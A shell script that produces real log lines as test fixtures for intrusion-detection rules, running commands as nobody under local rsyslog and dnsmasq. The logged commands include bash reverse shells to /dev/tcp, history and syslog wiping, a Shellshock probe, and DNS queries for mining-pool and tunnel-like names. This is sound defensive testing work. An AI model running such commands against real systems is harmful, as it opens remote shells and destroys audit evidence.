#!/bin/sh
# Produces real log lines for the starter rules' tests (README.md here):
# runs real programs (sudo, useradd, crontab, dnsmasq queried by dig) on
# this machine, as root, and keeps what rsyslog and dnsmasq write about
# them. Run once by hand (`sh generate.sh`); its output is committed
# with the ground truth (ground-truth.tsv), which a person writes after
# reading the lines. Needs: rsyslog sudo passwd cron dnsmasq-base
# bind9-dnsutils python3 (Debian packages).
set -eu
here=$(cd "$(dirname "$0")" && pwd)
out=$here/generated
work=$(mktemp -d)
trap 'kill "$(cat "$work/rsyslog.pid" 2>/dev/null)" "$(cat "$work/dnsmasq.pid" 2>/dev/null)" 2>/dev/null || true; rm -f /dev/log; userdel vigilgen0 2>/dev/null || true; userdel vigilgen27 2>/dev/null || true; userdel vigilgenplain 2>/dev/null || true; rm -rf "$work"' EXIT
mkdir -p "$out"
: >"$out/auth.log"
: >"$out/syslog.log"
: >"$out/dnsmasq.log"

[ -e /dev/log ] && { echo "/dev/log exists: another syslog daemon runs here; stop it first" >&2; exit 1; }
cat >"$work/rsyslog.conf" <<CONF
module(load="imuxsock" SysSock.Name="/dev/log")
\$ActionFileDefaultTemplate RSYSLOG_TraditionalFileFormat
auth,authpriv.* $out/auth.log
*.*;auth,authpriv.none $out/syslog.log
CONF
rsyslogd -f "$work/rsyslog.conf" -i "$work/rsyslog.pid"
while [ ! -S /dev/log ]; do sleep 0.1; done

cd "$work"
chmod 777 "$work"
# Commands run through sudo as nobody: sudo logs each to authpriv
# (COMMAND=...). As nobody they change nothing outside $work.
run() { sudo -u nobody "$@" >/dev/null 2>&1 || true; }
run sh -c "cat /dev/null > $work/.bash_history"
run sh -c 'rm -f /var/log/syslog'
run bash -c 'echo >/dev/tcp/127.0.0.1/9'
run bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'
run bash -c '/bin/bash -i >&/dev/tcp/127.0.0.1/9 0>&1'
run ln -s /etc/passwd "$work/passwd-link"
run timeout 1 python3 -m http.server 0
run sh -c 'cd /tmp || cd /var/run || cd /mnt'
run sh -c "chown root:root x; true"
run cat /etc/ld.so.preload
run env 'x=() { :;}; echo vulnerable' bash -c true
run scp -o BatchMode=yes "$work/passwd-link" nobody@127.0.0.1:/tmp/
# Benign commands: lines that no rule should match.
run ls -l /etc/passwd
run id
run sh -c 'cat /etc/hostname > /dev/null'
# Accounts: useradd logs each new user (and its group) to auth.
useradd -g 0 -M vigilgen0
useradd -g 27 -M vigilgen27
useradd -M vigilgenplain
userdel vigilgen0
userdel vigilgen27
userdel vigilgenplain
# crontab logs a replaced table (REPLACE) to cron.
echo '# vigil test' | crontab -
crontab -r

# dnsmasq logs each query it gets (log-queries); it answers none (no
# upstream), which is enough for the query lines.
dnsmasq --keep-in-foreground --no-resolv --no-hosts --port=5353 --listen-address=127.0.0.1 --bind-interfaces \
	--log-queries --log-facility="$out/dnsmasq.log" --pid-file="$work/dnsmasq.pid" --user=root &
while ! dig +time=1 +tries=1 @127.0.0.1 -p 5353 localhost >/dev/null 2>&1; do sleep 0.1; done
for q in api.telegram.org pool.minexmr.com x7.ceye.io aaa.stage.123456.example.net \
	ifferfsodp9ifjaposdfjhgosurijfaewrwergwea.com ZXhhbXBsZQ==.example.org \
	www.debian.org deb.debian.org telegram.org; do
	dig +time=1 +tries=1 @127.0.0.1 -p 5353 "$q" >/dev/null 2>&1 || true
done
dig +time=1 +tries=1 @127.0.0.1 -p 5353 TXT example.org >/dev/null 2>&1 || true

# Wait until rsyslog has written the last lines expected.
for i in $(seq 50); do grep -q 'REPLACE' "$out/syslog.log" && grep -q vigilgenplain "$out/auth.log" && break; sleep 0.1; done
kill "$(cat "$work/dnsmasq.pid")"
